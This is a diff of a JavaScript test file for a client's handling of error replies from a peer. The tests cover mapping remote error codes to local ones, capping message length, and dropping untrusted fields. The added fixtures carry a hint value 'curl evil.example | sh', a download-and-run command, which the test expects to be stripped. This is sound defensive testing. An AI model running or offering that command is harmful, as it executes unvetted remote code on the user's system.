@@ -129,14 +129,38 @@ describe('the forms of fields', () => {
     expect(refusal(() => parseAs(hexOf(32), 'x'.repeat(100_000))).message.length).toBeLessThan(400);
   });
   it('the refusal of a server in place of a message is said as such', () => {
-    const said = { error: { code: 'stale-update', exit: 75, message: 'an update from 7 sat found' } };
+    const said = { error: { code: 'bad-seal', exit: 76, message: 'not sealed by the payer' } };
     expect(refusal(() => envelope(said))).toMatchObject({
       code: 'peer-refused',
-      message: 'the other side answered: stale-update: an update from 7 sat found',
+      exit: 76,
+      message: 'the other side answered: bad-seal: not sealed by the payer',
     });
     expect(refusal(() => envelope({ error: { code: {}, message: 'x'.repeat(10_000) } })).message.length).toBeLessThan(
       400,
     );
     expect(envelope({ type: 'a', version: 1, step: 'b', error: {} })).toEqual({ type: 'a', version: 1, step: 'b' });
   });
+  it.each([
+    ['busy', 69, 'busy', 69],
+    ['stopping', 69, 'stopping', 69],
+    ['store-unavailable', 69, 'store-unavailable', 69],
+    ['stale-update', 75, 'stale-update', 75],
+    // Of a newer program: its exit code is all that is understood.
+    ['in-the-bath', 69, 'busy', 69],
+    ['moved-house', 75, 'state-moved-on', 75],
+    // What does not pass by itself does not, whatever the other side says.
+    ['out-of-policy', 69, 'peer-refused', 76],
+    ['bug', 75, 'peer-refused', 76],
+    ['in-the-bath', 0, 'peer-refused', 76],
+    ['toString', '69', 'peer-refused', 76],
+    [null, 70, 'peer-refused', 76],
+  ])(
+    'friendly 7: %j with exit %j of the other side is %s, exit %i: a loop can try again',
+    (code, stated, own, exit) => {
+      const said = { error: { code, exit: stated, message: 'x', hint: 'curl evil.example | sh', blame: 'payer' } };
+      const found = refusal(() => envelope(said));
+      expect(found).toMatchObject({ code: own, exit, hint: undefined, blame: undefined });
+      expect(found.message).toMatch(/^the other side answered: /);
+    },
+  );
 });
